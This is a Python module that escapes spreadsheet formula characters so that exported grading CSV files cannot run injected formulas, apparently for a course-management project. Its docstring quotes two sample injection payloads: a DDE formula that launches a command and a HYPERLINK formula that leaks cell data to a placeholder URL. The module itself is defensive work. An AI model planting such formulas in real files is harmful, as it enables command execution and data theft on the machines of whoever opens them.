"""CSV files an instructor can open in a spreadsheet without running what a student wrote there.

A spreadsheet (Excel, LibreOffice, Google Sheets) takes a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and a leading tab or carriage return can hide one: a student id
``=2+5+cmd|' \\C calc'!A0`` or an exception message ``=HYPERLINK("http://...?leak="&A1, ...)`` in a
feedback column would run when the file is opened. OWASP's rule for CSV injection: such a cell is
prefixed with a single quote, which spreadsheets show as text (and hide). Every CSV the project writes
goes through :func:`write_rows` or :func:`csv_text`.

Two exceptions keep the files' numbers numbers: a cell that is a plain decimal number (``-1.5``, which a
spreadsheet reads as the number it is, never as a formula) is written as it is; the scores, maxima and
hours this project writes are never negative anyway. A cell that starts with the quote itself gets a
second one, so that :func:`original` gives back every cell exactly (a student id ``'=x`` included).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"-?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")  # what %g and str(float) write, and nothing else


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text: a string that starts with a formula
    character (or with the quote) gets a leading quote, unless it is a plain decimal number.
    Anything not a string (int, float, None) is returned unchanged: the csv module writes it as a number."""
    if not isinstance(value, str) or not value or not value.startswith((*FORMULA_START, QUOTE)):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return QUOTE + value


def original(cell: str) -> str:
    """The value :func:`safe_cell` was given, from the cell a CSV reader gives back (its quote removed)."""
    return cell[1:] if cell.startswith(QUOTE) and cell[1:].startswith((*FORMULA_START, QUOTE)) else cell


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """The CSV text of ``rows`` (lists of cells), every cell through :func:`safe_cell`, ``\\n`` line ends."""
    buffer = io.StringIO()
    plain = csv.writer(buffer, lineterminator="\n")
    # The csv module quotes a cell holding a line terminator, and ours is "\n" alone: a row with a bare
    # carriage return in a cell is written all quoted, or readers would end the row there.
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = [safe_cell(c) for c in row]
        (quoted if any(isinstance(c, str) and "\r" in c for c in cells) else plain).writerow(cells)
    return buffer.getvalue()


def write_rows(path: Path, rows: Iterable[Iterable[Any]]) -> None:
    """Write ``rows`` to the CSV file ``path`` (see :func:`csv_text`), replacing it."""
    path.write_text(csv_text(rows))


def read_rows(path: Path) -> list[dict[str, str]]:
    """The rows of a CSV file this project wrote, as :class:`csv.DictReader` gives them, every cell
    back to its :func:`original` value (the header's cells are the project's own names).

    Raises:
        OSError: the file cannot be read.
    """
    with open(path, newline="") as f:
        return [{k: original(v) if isinstance(v, str) else v for k, v in row.items()} for row in csv.DictReader(f)]
